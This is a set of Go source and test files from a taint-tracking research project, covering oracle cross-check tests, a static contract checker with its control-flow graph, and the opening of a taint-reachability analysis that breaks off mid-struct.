		{"byte", shift.Options{Oracle: true, Instrument: true, Granularity: taint.Byte}},
		{"word", shift.Options{Oracle: true, Instrument: true, Granularity: taint.Word}},
		{"byte+enh", shift.Options{Oracle: true, Instrument: true, Granularity: taint.Byte,
			Features: machine.Features{SetClrNaT: true, NaTAwareCmp: true}}},
		{"word+opt", shift.Options{Oracle: true, Instrument: true, Granularity: taint.Word, Optimize: true}},
	}
	// Short mode (the -race CI stage) trims to the core modes and skips
	// the benchmarks with fixed-iteration kernels whose runtime doesn't
	// shrink with input scale; the full matrix runs in the regular suite.
	slow := map[string]bool{"vpr": true, "twolf": true, "mcf": true}
	if testing.Short() {
		modes = modes[:3] // base, byte, word
	}
	for _, b := range All() {
		b := b
		t.Run(b.Name, func(t *testing.T) {
			if testing.Short() && slow[b.Name] {
				t.Skip("fixed-iteration kernel; covered by the non-short run")
			}
			sc := scale(b)
			for _, m := range modes {
				res := runBench(t, b, m.opt, sc)
				if res.Trap != nil {
					t.Fatalf("%s: %v", m.name, res.Trap)
				}
				if res.Alert != nil {
					t.Fatalf("%s: false positive under oracle: %v", m.name, res.Alert)
				}
				if d := res.Oracle.Divergence(); d != nil {
					t.Fatalf("%s: divergence: %v", m.name, d)
				}
				st := res.Oracle.Stats
				if st.Steps == 0 {
					t.Fatalf("%s: oracle idle", m.name)
				}
				if m.opt.Instrument && (st.RegChecks == 0 || st.UnitChecks == 0) {
					t.Fatalf("%s: oracle not cross-checking: %+v", m.name, st)
				}
			}
		})
	}
}

// TestOracleOverThreads: under the tag-coherent schedule a time slice
// can no longer end between a data store and its tag update, so the
// oracle keeps its full register and bitmap cross-checks live across
// spawns — no stand-down, at either granularity, across worker counts
// and scheduling quanta.
func TestOracleOverThreads(t *testing.T) {
	for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
		for _, k := range []int{1, 4} {
			for _, q := range []uint64{0, 17} {
				conf := MTConfig()
				conf.Granularity = g
				res, err := shift.BuildAndRun(
					[]shift.Source{{Name: "mt.mc", Text: MTSource}},
					MTWorld(1024, k),
					shift.Options{Instrument: true, Policy: conf, Quantum: q, Oracle: true})
				if err != nil {
					t.Fatalf("%s k=%d q=%d: %v", g, k, q, err)
				}
				if res.Trap != nil || res.Alert != nil {
					t.Fatalf("%s k=%d q=%d: trap=%v alert=%v", g, k, q, res.Trap, res.Alert)
				}
				if d := res.Oracle.Divergence(); d != nil {
					t.Fatalf("%s k=%d q=%d: divergence: %v", g, k, q, d)
				}
				st := res.Oracle.Stats
				if st.Steps == 0 || st.RegChecks == 0 || st.UnitChecks == 0 {
					t.Fatalf("%s k=%d q=%d: oracle not cross-checking: %+v", g, k, q, st)
				}
			}
		}
	}
}

// TestOracleChecksSharedUnitsAcrossThreads runs the shared-unit stress —
// 2 to 4 workers hammering the same tag bytes with alternating tainted
// and clean stores — under the full lockstep cross-check. The unit-check
// floor is the teeth: nearly every store in the program happens in a
// worker thread after the first spawn, so the old post-spawn stand-down
// would leave UnitChecks at the handful main contributed, while checked
// multithreaded tracking drives it past a thousand.
func TestOracleChecksSharedUnitsAcrossThreads(t *testing.T) {
	for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
		for _, k := range []int{2, 3, 4} {
			for _, q := range []uint64{0, 23} {
				res, err := shift.BuildAndRun(
					[]shift.Source{{Name: "shared.mc", Text: ThreadedTaintSource}},
					ThreadedTaintWorld(k),
					shift.Options{Instrument: true, Policy: ThreadedTaintConfig(g), Quantum: q, Oracle: true})
				if err != nil {
					t.Fatalf("%s k=%d q=%d: %v", g, k, q, err)
				}
				if res.Trap != nil || res.Alert != nil {
					t.Fatalf("%s k=%d q=%d: trap=%v alert=%v", g, k, q, res.Trap, res.Alert)
				}
				if res.ExitStatus != 0 {
					t.Fatalf("%s k=%d q=%d: exit=%d (taint lost on shared units)", g, k, q, res.ExitStatus)
				}
				if d := res.Oracle.Divergence(); d != nil {
					t.Fatalf("%s k=%d q=%d: divergence: %v", g, k, q, d)
				}
				st := res.Oracle.Stats
				if st.UnitChecks < 1000 {
					t.Fatalf("%s k=%d q=%d: only %d unit checks — strong checks stood down after spawn?",
						g, k, q, st.UnitChecks)
				}
				if st.RegChecks == 0 {
					t.Fatalf("%s k=%d q=%d: no register cross-checks: %+v", g, k, q, st)
				}
			}
		}
	}
}
