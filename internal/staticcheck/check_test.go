package staticcheck_test

import (
	"strings"
	"testing"

	"shift/internal/asm"
	"shift/internal/instrument"
	"shift/internal/isa"
	"shift/internal/staticcheck"
	"shift/internal/taint"
)

func assemble(t *testing.T, src string) *isa.Program {
	t.Helper()
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func has(fs []staticcheck.Finding, inv string) bool {
	for _, f := range fs {
		if f.Invariant == inv {
			return true
		}
	}
	return false
}

func list(fs []staticcheck.Finding) string {
	var b strings.Builder
	for _, f := range fs {
		b.WriteString("\t" + f.String() + "\n")
	}
	return b.String()
}

// A hand-written program with a raw store and load has no tag traffic:
// both memory invariants must flag it, pc-addressed.
func TestUninstrumentedMemoryTrafficFlagged(t *testing.T) {
	p := assemble(t, `
.data
buf: .space 64
.text
.entry main
main:
	movl r1 = buf
	movl r2 = 7
	st8 [r1] = r2
	ld8 r3 = [r1]
	movl r32 = 0
	syscall 1
`)
	fs := staticcheck.Check(p)
	if !has(fs, staticcheck.InvStoreTagUpdate) {
		t.Errorf("missing %s finding:\n%s", staticcheck.InvStoreTagUpdate, list(fs))
	}
	if !has(fs, staticcheck.InvLoadTagConsult) {
		t.Errorf("missing %s finding:\n%s", staticcheck.InvLoadTagConsult, list(fs))
	}
	for _, f := range fs {
		if f.Invariant == staticcheck.InvStoreTagUpdate && f.PC != 2 {
			t.Errorf("store finding at pc %d, want 2", f.PC)
		}
	}
}

// The instrumented counterpart of the same program is contract-clean.
func TestInstrumentedCounterpartClean(t *testing.T) {
	p := assemble(t, `
.data
buf: .space 64
.text
.entry main
main:
	movl r1 = buf
	movl r2 = 7
	st8 [r1] = r2
	ld8 r3 = [r1]
	movl r32 = 0
	syscall 1
`)
	for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
		out, err := instrument.Apply(p, instrument.Options{Gran: g})
		if err != nil {
			t.Fatalf("%v: %v", g, err)
		}
		if fs := staticcheck.Check(out); len(fs) != 0 {
			t.Errorf("%v: instrumented program not clean:\n%s", g, list(fs))
		}
	}
}

// A speculative load checked by chk.s is consumed; one whose token is
// overwritten unread is dead.
func TestSpecLoadConsumption(t *testing.T) {
	checked := assemble(t, `
.data
buf: .space 8
.text
.entry main
main:
	movl r1 = buf
	ld8.s r3 = [r1]
	chk.s r3, rec
	movl r32 = 0
	syscall 1
rec:
	movl r32 = 1
	syscall 1
`)
	if fs := staticcheck.Check(checked); has(fs, staticcheck.InvSpecLoadConsumed) {
		t.Errorf("chk.s-consumed speculative load flagged:\n%s", list(fs))
	}

	dead := assemble(t, `
.data
buf: .space 8
.text
.entry main
main:
	movl r1 = buf
	ld8.s r3 = [r1]
	movl r3 = 0
	movl r32 = 0
	syscall 1
`)
	if fs := staticcheck.Check(dead); !has(fs, staticcheck.InvSpecLoadConsumed) {
		t.Errorf("dead speculative load not flagged:\n%s", list(fs))
	}
}

// ld8.fill must restore a UNAT bit some st8.spill defined on all paths.
func TestUnatPairing(t *testing.T) {
	paired := assemble(t, `
.data
buf: .space 8
.text
.entry main
main:
	movl r1 = buf
	movl r2 = 9
	st8.spill [r1] = r2, 5
	ld8.fill r2 = [r1], 5
	movl r32 = 0
	syscall 1
`)
	if fs := staticcheck.Check(paired); has(fs, staticcheck.InvUnatPairing) {
		t.Errorf("paired spill/fill flagged:\n%s", list(fs))
	}

	mismatched := assemble(t, `
.data
buf: .space 8
.text
.entry main
main:
	movl r1 = buf
	movl r2 = 9
	st8.spill [r1] = r2, 5
	ld8.fill r2 = [r1], 6
	movl r32 = 0
	syscall 1
`)
	if fs := staticcheck.Check(mismatched); !has(fs, staticcheck.InvUnatPairing) {
		t.Errorf("mismatched fill bit not flagged:\n%s", list(fs))
	}
}

// Consuming the NaT-source register without a dominating generation is
// a silent taint drop; generating it regenerated-by-ld.s satisfies it.
func TestNaTSourceLive(t *testing.T) {
	bad := &isa.Program{Text: []isa.Instruction{
		{Op: isa.OpAdd, Qp: 8, Dest: 5, Src1: 5, Src2: isa.RegNaT},
		{Op: isa.OpSyscall, Imm: isa.SysExit},
	}}
	if fs := staticcheck.Check(bad); !has(fs, staticcheck.InvNaTSourceLive) {
		t.Errorf("uninitialised r127 read not flagged:\n%s", list(fs))
	}

	good := &isa.Program{Text: []isa.Instruction{
		{Op: isa.OpMovl, Dest: 125, Imm: 42},
		{Op: isa.OpLdS, Dest: isa.RegNaT, Src1: 125, Size: 8},
		{Op: isa.OpAdd, Qp: 8, Dest: 5, Src1: 5, Src2: isa.RegNaT},
		{Op: isa.OpSyscall, Imm: isa.SysExit},
	}}
	if fs := staticcheck.Check(good); len(fs) != 0 {
		t.Errorf("generated-then-consumed NaT source flagged:\n%s", list(fs))
	}
}

// A NaT-sensitive compare downstream of a possibly-NaT register is
// flagged — unless a chk.s proved the register clean on the fallthrough.
func TestCleanBeforeCompareAndChkRefinement(t *testing.T) {
	dirty := &isa.Program{Text: []isa.Instruction{
		{Op: isa.OpLdS, Dest: 3, Src1: 1, Size: 8},
		{Op: isa.OpCmpi, Cond: isa.CondNE, P1: 6, P2: 7, Src1: 3},
		{Op: isa.OpSyscall, Imm: isa.SysExit},
	}}
	if fs := staticcheck.Check(dirty); !has(fs, staticcheck.InvCleanBeforeCmp) {
		t.Errorf("NaT-sensitive compare of speculative result not flagged:\n%s", list(fs))
	}

	guarded := &isa.Program{Text: []isa.Instruction{
		{Op: isa.OpLdS, Dest: 3, Src1: 1, Size: 8},
		{Op: isa.OpChkS, Src1: 3, Target: 3},
		{Op: isa.OpCmpi, Cond: isa.CondNE, P1: 6, P2: 7, Src1: 3},
		{Op: isa.OpSyscall, Imm: isa.SysExit},
	}}
	if fs := staticcheck.Check(guarded); has(fs, staticcheck.InvCleanBeforeCmp) {
		t.Errorf("chk.s-guarded compare flagged:\n%s", list(fs))
	}
}

// Findings carry the nearest enclosing symbol and render pc-addressed.
func TestFindingRendering(t *testing.T) {
	p := assemble(t, `
.data
buf: .space 8
.text
.entry main
main:
	movl r1 = buf
	movl r2 = 7
	st8 [r1] = r2
	movl r32 = 0
	syscall 1
`)
	fs := staticcheck.Check(p)
	if len(fs) == 0 {
		t.Fatal("expected findings")
	}
	s := fs[0].String()
	if !strings.Contains(s, "pc 2") || !strings.Contains(s, "main+2") ||
		!strings.Contains(s, staticcheck.InvStoreTagUpdate) {
		t.Errorf("finding rendering %q lacks pc/symbol/invariant", s)
	}
}
