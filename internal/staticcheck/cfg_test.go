package staticcheck

import (
	"reflect"
	"sort"
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
)

func mustAssemble(t *testing.T, src string) *isa.Program {
	t.Helper()
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// An indirect branch is conservatively wired to every code label — and
// only to labels, with EdgeInd kind, in deterministic index order.
func TestGraphIndirectBranchEdges(t *testing.T) {
	p := mustAssemble(t, `
.text
.entry main
main:
	movl r3 = 9
	mov b1 = r3
	br.ind b1
alpha:
	movl r32 = 0
	syscall 1
.local:
	movl r32 = 1
	syscall 1
`)
	g := BuildGraph(p)
	var ind int
	for i := range p.Text {
		if p.Text[i].Op == isa.OpBrInd {
			ind = i
		}
	}
	edges := g.Succ[ind]
	want := make([]int, 0, len(p.Symbols))
	for _, idx := range p.Symbols {
		want = append(want, idx)
	}
	sort.Ints(want)
	var got []int
	for _, e := range edges {
		if e.Kind != EdgeInd {
			t.Errorf("br.ind edge to %d has kind %d, want EdgeInd", e.To, e.Kind)
		}
		if e.Clr != -1 {
			t.Errorf("br.ind edge to %d clears register %d", e.To, e.Clr)
		}
		got = append(got, e.To)
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("br.ind targets = %v, want every label %v", got, want)
	}
	// No fallthrough edge: an indirect branch always leaves.
	for _, e := range edges {
		if e.Kind == EdgeFall {
			t.Error("br.ind has a fallthrough edge")
		}
	}
}

// chk.s gets exactly two edges: a jump to the recovery label and an
// EdgeChk fallthrough that names the checked register as proven clean.
func TestGraphChkRecoveryEdges(t *testing.T) {
	p := mustAssemble(t, `
.data
buf: .space 64
.text
.entry main
main:
	movl r1 = buf
	ld8 r2 = [r1]
	chk.s r2, rec
	movl r32 = 0
	syscall 1
rec:
	movl r32 = 1
	syscall 1
`)
	g := BuildGraph(p)
	var chk int
	for i := range p.Text {
		if p.Text[i].Op == isa.OpChkS {
			chk = i
		}
	}
	edges := g.Succ[chk]
	if len(edges) != 2 {
		t.Fatalf("chk.s has %d edges, want 2: %v", len(edges), edges)
	}
	jump, fall := edges[0], edges[1]
	if jump.Kind != EdgeJump || jump.To != p.Symbols["rec"] {
		t.Errorf("taken edge = %+v, want EdgeJump to rec (%d)", jump, p.Symbols["rec"])
	}
	if fall.Kind != EdgeChk || fall.To != chk+1 {
		t.Errorf("fallthrough edge = %+v, want EdgeChk to %d", fall, chk+1)
	}
	if int(fall.Clr) != int(p.Text[chk].Src1) {
		t.Errorf("EdgeChk clears r%d, want checked register r%d", fall.Clr, p.Text[chk].Src1)
	}
}

// Roots are the entry plus every named symbol; dot-prefixed local
// labels are not roots, and br.ret terminates its path.
func TestGraphRootsAndReturn(t *testing.T) {
	p := mustAssemble(t, `
.text
.entry main
main:
	br.call b0, helper
	movl r32 = 0
	syscall 1
helper:
	br.ret b0
.skip:
	movl r32 = 1
	syscall 1
`)
	g := BuildGraph(p)
	want := []int{p.Entry, p.Symbols["helper"]}
	sort.Ints(want)
	if !reflect.DeepEqual(g.Roots, want) {
		t.Errorf("roots = %v, want %v (entry + named symbols, no locals)", g.Roots, want)
	}
	ret := p.Symbols["helper"]
	if len(g.Succ[ret]) != 0 {
		t.Errorf("br.ret has successors %v, want none", g.Succ[ret])
	}
	// The call gets a callee edge and a return continuation.
	call := p.Entry
	kinds := map[EdgeKind]int{}
	for _, e := range g.Succ[call] {
		kinds[e.Kind] = e.To
	}
	if to, ok := kinds[EdgeCall]; !ok || to != p.Symbols["helper"] {
		t.Errorf("br.call edges %v missing EdgeCall to helper", g.Succ[call])
	}
	if to, ok := kinds[EdgeRet]; !ok || to != call+1 {
		t.Errorf("br.call edges %v missing EdgeRet continuation", g.Succ[call])
	}
}

// dedupSort pins the public ordering contract: findings come out sorted
// by (pc, invariant, msg) with exact duplicates dropped, regardless of
// emission order.
func TestDedupSortDeterministic(t *testing.T) {
	in := []Finding{
		{PC: 5, Invariant: InvStoreTagUpdate, Msg: "b"},
		{PC: 2, Invariant: InvLoadTagConsult, Msg: "x"},
		{PC: 5, Invariant: InvStoreTagUpdate, Msg: "a"},
		{PC: 5, Invariant: InvLoadTagConsult, Msg: "z"},
		{PC: 2, Invariant: InvLoadTagConsult, Msg: "x"}, // exact dup
		{PC: 5, Invariant: InvStoreTagUpdate, Msg: "a"}, // exact dup
	}
	got := dedupSort(append([]Finding(nil), in...))
	want := []Finding{
		{PC: 2, Invariant: InvLoadTagConsult, Msg: "x"},
		{PC: 5, Invariant: InvLoadTagConsult, Msg: "z"},
		{PC: 5, Invariant: InvStoreTagUpdate, Msg: "a"},
		{PC: 5, Invariant: InvStoreTagUpdate, Msg: "b"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("dedupSort:\n got %v\nwant %v", got, want)
	}
	// Same multiset in a different emission order yields the same output.
	perm := []Finding{in[3], in[5], in[0], in[4], in[1], in[2]}
	if got2 := dedupSort(perm); !reflect.DeepEqual(got2, want) {
		t.Errorf("dedupSort not order-independent:\n got %v\nwant %v", got2, want)
	}
}
