package staticcheck

import (
	"sort"
	"strings"

	"shift/internal/isa"
)

// EdgeKind classifies a control-flow edge; the dataflow solver applies a
// different state transform per kind.
type EdgeKind uint8

const (
	EdgeFall EdgeKind = iota // straight-line successor
	EdgeJump                 // taken branch (br, chk.s taken)
	EdgeCall                 // br.call into the callee entry
	EdgeRet                  // continuation after a br.call returns
	EdgeInd                  // conservative indirect-branch edge
	EdgeChk                  // chk.s fallthrough: src1 proven NaT-free
)

// Edge is one outgoing control-flow edge. Clr, when >= 0, names a
// register known NaT-free along this edge (the chk.s fallthrough).
type Edge struct {
	To   int
	Kind EdgeKind
	Clr  int16
}

// Graph is the instruction-level control-flow graph of a program, with
// every indirect branch conservatively wired to every code label.
// It is shared between the in-package contract checker and the
// taint-reachability analysis in the reach subpackage.
type Graph struct {
	prog  *isa.Program
	Succ  [][]Edge
	Roots []int // program entry plus every named function symbol

	// syms is every (index, name) label pair sorted by index, used to
	// attribute findings to the nearest enclosing symbol.
	syms []symPos
}

type symPos struct {
	idx  int
	name string
}

// TargetOf resolves the branch destination of ins, preferring the symbol
// table over a raw index so unlinked programs still analyze.
func TargetOf(p *isa.Program, ins *isa.Instruction) (int, bool) {
	if ins.Label != "" {
		t, ok := p.Symbols[ins.Label]
		return t, ok && t >= 0 && t < len(p.Text)
	}
	return ins.Target, ins.Target >= 0 && ins.Target < len(p.Text)
}

func BuildGraph(p *isa.Program) *Graph {
	n := len(p.Text)
	g := &Graph{prog: p, Succ: make([][]Edge, n)}

	// Indirect branches can reach any label (the code generator only
	// materialises label addresses, never arbitrary indices).
	var labelIdx []int
	for name, idx := range p.Symbols {
		if idx >= 0 && idx < n {
			labelIdx = append(labelIdx, idx)
			g.syms = append(g.syms, symPos{idx, name})
		}
	}
	sort.Ints(labelIdx)
	sort.Slice(g.syms, func(i, j int) bool {
		if g.syms[i].idx != g.syms[j].idx {
			return g.syms[i].idx < g.syms[j].idx
		}
		return g.syms[i].name < g.syms[j].name
	})

	for i := 0; i < n; i++ {
		ins := &p.Text[i]
		add := func(e Edge) { g.Succ[i] = append(g.Succ[i], e) }
		fall := func(kind EdgeKind, clr int16) {
			if i+1 < n {
				add(Edge{To: i + 1, Kind: kind, Clr: clr})
			}
		}
		switch ins.Op {
		case isa.OpBr:
			if t, ok := TargetOf(p, ins); ok {
				add(Edge{To: t, Kind: EdgeJump, Clr: -1})
			}
			if ins.Qp != 0 {
				fall(EdgeFall, -1)
			}
		case isa.OpChkS:
			// chk.s branches only when src1 carries NaT; on the
			// fallthrough the register is proven clean.
			if t, ok := TargetOf(p, ins); ok {
				add(Edge{To: t, Kind: EdgeJump, Clr: -1})
			}
			fall(EdgeChk, int16(ins.Src1))
		case isa.OpBrCall:
			if t, ok := TargetOf(p, ins); ok {
				add(Edge{To: t, Kind: EdgeCall, Clr: -1})
			}
			fall(EdgeRet, -1)
			if ins.Qp != 0 {
				fall(EdgeFall, -1)
			}
		case isa.OpBrRet:
			// Path ends here; the continuation is modelled at the
			// matching br.call's EdgeRet.
		case isa.OpBrInd:
			for _, t := range labelIdx {
				add(Edge{To: t, Kind: EdgeInd, Clr: -1})
			}
		default:
			fall(EdgeFall, -1)
		}
	}

	// Roots: the entry point, plus every named (non-local) function
	// symbol — spawned threads enter functions without a visible call
	// edge. The entry's own symbol is excluded so the entry keeps its
	// precise machine-reset state (reserved registers not yet written).
	g.Roots = append(g.Roots, p.Entry)
	for name, idx := range p.Symbols {
		if idx == p.Entry || idx < 0 || idx >= n {
			continue
		}
		if !strings.HasPrefix(name, ".") {
			g.Roots = append(g.Roots, idx)
		}
	}
	sort.Ints(g.Roots)
	return g
}

// Reachable marks every instruction reachable from the roots.
func (g *Graph) Reachable() []bool {
	seen := make([]bool, len(g.Succ))
	stack := append([]int(nil), g.Roots...)
	for len(stack) > 0 {
		i := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		if i < 0 || i >= len(seen) || seen[i] {
			continue
		}
		seen[i] = true
		for _, e := range g.Succ[i] {
			stack = append(stack, e.To)
		}
	}
	return seen
}

// SymFor renders the nearest enclosing label for pc, as "name" or
// "name+delta".
func (g *Graph) SymFor(pc int) string {
	lo, hi := 0, len(g.syms)
	for lo < hi {
		mid := (lo + hi) / 2
		if g.syms[mid].idx <= pc {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	if lo == 0 {
		return ""
	}
	s := g.syms[lo-1]
	if s.idx == pc {
		return s.name
	}
	return s.name + "+" + itoa(pc-s.idx)
}

func itoa(v int) string {
	if v == 0 {
		return "0"
	}
	var buf [20]byte
	i := len(buf)
	for v > 0 {
		i--
		buf[i] = byte('0' + v%10)
		v /= 10
	}
	return string(buf[i:])
}
