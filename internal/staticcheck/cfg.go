package staticcheck

import (
	"sort"
	"strings"

	"shift/internal/isa"
)

// edgeKind classifies a control-flow edge; the dataflow solver applies a
// different state transform per kind.
type edgeKind uint8

const (
	edgeFall edgeKind = iota // straight-line successor
	edgeJump                 // taken branch (br, chk.s taken)
	edgeCall                 // br.call into the callee entry
	edgeRet                  // continuation after a br.call returns
	edgeInd                  // conservative indirect-branch edge
	edgeChk                  // chk.s fallthrough: src1 proven NaT-free
)

// edge is one outgoing control-flow edge. clr, when >= 0, names a
// register known NaT-free along this edge (the chk.s fallthrough).
type edge struct {
	to   int
	kind edgeKind
	clr  int16
}

// graph is the instruction-level control-flow graph of a program, with
// every indirect branch conservatively wired to every code label.
type graph struct {
	prog  *isa.Program
	succ  [][]edge
	roots []int // program entry plus every named function symbol

	// syms is every (index, name) label pair sorted by index, used to
	// attribute findings to the nearest enclosing symbol.
	syms []symPos
}

type symPos struct {
	idx  int
	name string
}

// targetOf resolves the branch destination of ins, preferring the symbol
// table over a raw index so unlinked programs still analyze.
func targetOf(p *isa.Program, ins *isa.Instruction) (int, bool) {
	if ins.Label != "" {
		t, ok := p.Symbols[ins.Label]
		return t, ok && t >= 0 && t < len(p.Text)
	}
	return ins.Target, ins.Target >= 0 && ins.Target < len(p.Text)
}

func buildGraph(p *isa.Program) *graph {
	n := len(p.Text)
	g := &graph{prog: p, succ: make([][]edge, n)}

	// Indirect branches can reach any label (the code generator only
	// materialises label addresses, never arbitrary indices).
	var labelIdx []int
	for name, idx := range p.Symbols {
		if idx >= 0 && idx < n {
			labelIdx = append(labelIdx, idx)
			g.syms = append(g.syms, symPos{idx, name})
		}
	}
	sort.Ints(labelIdx)
	sort.Slice(g.syms, func(i, j int) bool {
		if g.syms[i].idx != g.syms[j].idx {
			return g.syms[i].idx < g.syms[j].idx
		}
		return g.syms[i].name < g.syms[j].name
	})

	for i := 0; i < n; i++ {
		ins := &p.Text[i]
		add := func(e edge) { g.succ[i] = append(g.succ[i], e) }
		fall := func(kind edgeKind, clr int16) {
			if i+1 < n {
				add(edge{to: i + 1, kind: kind, clr: clr})
			}
		}
		switch ins.Op {
		case isa.OpBr:
			if t, ok := targetOf(p, ins); ok {
				add(edge{to: t, kind: edgeJump, clr: -1})
			}
			if ins.Qp != 0 {
				fall(edgeFall, -1)
			}
		case isa.OpChkS:
			// chk.s branches only when src1 carries NaT; on the
			// fallthrough the register is proven clean.
			if t, ok := targetOf(p, ins); ok {
				add(edge{to: t, kind: edgeJump, clr: -1})
			}
			fall(edgeChk, int16(ins.Src1))
		case isa.OpBrCall:
			if t, ok := targetOf(p, ins); ok {
				add(edge{to: t, kind: edgeCall, clr: -1})
			}
			fall(edgeRet, -1)
			if ins.Qp != 0 {
				fall(edgeFall, -1)
			}
		case isa.OpBrRet:
			// Path ends here; the continuation is modelled at the
			// matching br.call's edgeRet.
		case isa.OpBrInd:
			for _, t := range labelIdx {
				add(edge{to: t, kind: edgeInd, clr: -1})
			}
		default:
			fall(edgeFall, -1)
		}
	}

	// Roots: the entry point, plus every named (non-local) function
	// symbol — spawned threads enter functions without a visible call
	// edge. The entry's own symbol is excluded so the entry keeps its
	// precise machine-reset state (reserved registers not yet written).
	g.roots = append(g.roots, p.Entry)
	for name, idx := range p.Symbols {
		if idx == p.Entry || idx < 0 || idx >= n {
			continue
		}
		if !strings.HasPrefix(name, ".") {
			g.roots = append(g.roots, idx)
		}
	}
	sort.Ints(g.roots)
	return g
}

// reachable marks every instruction reachable from the roots.
func (g *graph) reachable() []bool {
	seen := make([]bool, len(g.succ))
	stack := append([]int(nil), g.roots...)
	for len(stack) > 0 {
		i := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		if i < 0 || i >= len(seen) || seen[i] {
			continue
		}
		seen[i] = true
		for _, e := range g.succ[i] {
			stack = append(stack, e.to)
		}
	}
	return seen
}

// symFor renders the nearest enclosing label for pc, as "name" or
// "name+delta".
func (g *graph) symFor(pc int) string {
	lo, hi := 0, len(g.syms)
	for lo < hi {
		mid := (lo + hi) / 2
		if g.syms[mid].idx <= pc {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	if lo == 0 {
		return ""
	}
	s := g.syms[lo-1]
	if s.idx == pc {
		return s.name
	}
	return s.name + "+" + itoa(pc-s.idx)
}

func itoa(v int) string {
	if v == 0 {
		return "0"
	}
	var buf [20]byte
	i := len(buf)
	for v > 0 {
		i--
		buf[i] = byte('0' + v%10)
		v /= 10
	}
	return string(buf[i:])
}
