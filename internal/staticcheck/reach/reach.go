// Package reach implements a whole-program static taint-reachability
// analysis over an uninstrumented isa.Program: for every instruction it
// answers "can this site ever touch tainted data?", so the SHIFT pass
// (internal/instrument, Options.Selective) can leave provably
// taint-unreachable loads, stores and compares in their original
// encoding — no tag consult, no tag update, no clean-before-compare
// relaxation — the selective-tracking direction HardTaint argues brings
// production DIFT overhead down.
//
// The analysis reuses the contract checker's instruction-level CFG
// (staticcheck.BuildGraph: fall/jump/call/return/indirect/chk.s edges)
// and the same worklist-fixpoint shape as its NaT dataflow, but over a
// richer lattice:
//
//   - an abstract memory partitioned into objects: one per data-segment
//     symbol (extents delimited by the sorted symbol addresses), one for
//     the stack region, one for the sbrk heap, and an "unknown" top that
//     any unmodelled address may alias;
//   - a flow-insensitive, monotone set M of may-tainted objects, seeded
//     by the syscalls that mark taint at run time (read/recv/getarg per
//     their policy channels, and the unconditional taint() syscall) and
//     grown by stores of may-tainted registers;
//   - flow-sensitive per-register facts: a may-taint bit (the register
//     may carry a NaT token under full instrumentation) and a points-to
//     set over the abstract objects, propagated through moves,
//     arithmetic (the allocation-site rule: pointer ± scalar stays in
//     its object), loads, calls and returns.
//
// Widening rules keep the analysis conservative: dereferencing a
// register with no pointer provenance widens to the unknown object;
// adding two pointer-carrying registers yields unknown; a tainted store
// through an unknown pointer taints all of memory; loads from unknown
// return unknown pointers; across a call's return edge every
// non-preserved register is assumed tainted (when the program has any
// taint seed) with unknown provenance; unresolved indirect branches
// already reach every label in the shared CFG. The outer loop reruns
// the register fixpoint until M, the per-object escaped-pointer sets
// and the register states are simultaneously stable.
//
// Soundness rests on two contracts, both documented in
// docs/STATIC_ANALYSIS.md: the code generator's calling convention
// (callee-saved locals r40..r107, SP and GP are restored with their NaT
// bits intact via ld8.fill/UNAT; everything else is treated as
// clobbered), and memory-safe addressing at object granularity (an
// out-of-bounds access computed from a *tainted* index faults at the
// access itself either way; one computed from a clean index is outside
// the threat model, exactly the paper's §3.3.2 assumption). The
// equivalence and mutation suites in internal/shift back both
// empirically.
package reach

import (
	"math/bits"
	"sort"
	"strings"

	"shift/internal/isa"
	"shift/internal/mem"
	"shift/internal/staticcheck"
	"shift/internal/taint"
)

// Config parameterizes the analysis.
type Config struct {
	// Sources enables taint channels ("file", "stdin", "network",
	// "args") exactly as policy.Config.Sources gates markTaint at run
	// time. nil enables every channel (most conservative). The taint()
	// syscall always seeds — the OS model does not gate it.
	Sources map[string]bool
	// Gran is the tracking granularity the instrumentation will use.
	// Objects are coarser than either unit size, so it only affects
	// reporting, never a decision.
	Gran taint.Granularity
	// Permissive names functions whose memory-access address registers
	// the pass cleans before use (§3.3.2): inside them a skipped access
	// whose address may be tainted would fault where full
	// instrumentation does not, so such sites must stay instrumented.
	Permissive map[string]bool
}

// ptrUnknown is the top of the points-to lattice: the value may address
// any object. The low bits index the object table.
const ptrUnknown = uint64(1) << 63

// maxDataObjs caps per-symbol data objects; programs with more symbols
// fold the tail into the last object (sound: coarser aliasing).
const maxDataObjs = 61

// rstate is the flow-sensitive fact at an instruction: which registers
// may carry taint (a NaT token under full instrumentation) and what
// each may point to.
type rstate struct {
	live  bool
	taint staticcheck.RegSet
	ptr   [isa.NumGR]uint64
}

func meet(x, y rstate) rstate {
	if !x.live {
		return y
	}
	if !y.live {
		return x
	}
	r := rstate{live: true, taint: x.taint.Or(y.taint)}
	for i := range r.ptr {
		r.ptr[i] = x.ptr[i] | y.ptr[i]
	}
	return r
}

// Fact is the per-instruction may-touch-taint result.
type Fact struct {
	// Live: the instruction is reachable with some register state. Dead
	// sites are trivially taint-free (and trivially skippable: they
	// never execute).
	Live bool
	// AddrTaint: the address register of a memory access may be NaT.
	AddrTaint bool
	// MemTaint: the addressed location may carry taint (its object is
	// in the may-tainted set, or the address has no modelled target).
	MemTaint bool
	// DataTaint: the stored data register may be NaT (stores, cmpxchg).
	DataTaint bool
	// OpTaint: a compare operand may be NaT.
	OpTaint bool
}

// Touches reports whether the site may interact with taint at all —
// the per-instruction "may-touch-taint" summary fact.
func (f Fact) Touches() bool {
	return f.Live && (f.AddrTaint || f.MemTaint || f.DataTaint || f.OpTaint)
}

// Analysis is the solved whole-program result.
type Analysis struct {
	prog *isa.Program
	cfg  Config
	g    *staticcheck.Graph

	// Abstract object table: objLo[i] is the start address of data
	// object i (objLo[0] == DataBase); the last extends to dataEnd.
	objLo    []uint64
	dataEnd  uint64
	stackBit uint64 // points-to bit of the stack object
	heapBit  uint64 // points-to bit of the sbrk heap object
	nObj     int    // data objects + stack + heap

	tainted    uint64   // M: may-tainted object bitset
	allTainted bool     // a tainted store escaped through unknown
	objPtrs    []uint64 // pointer sets that may have been stored per object
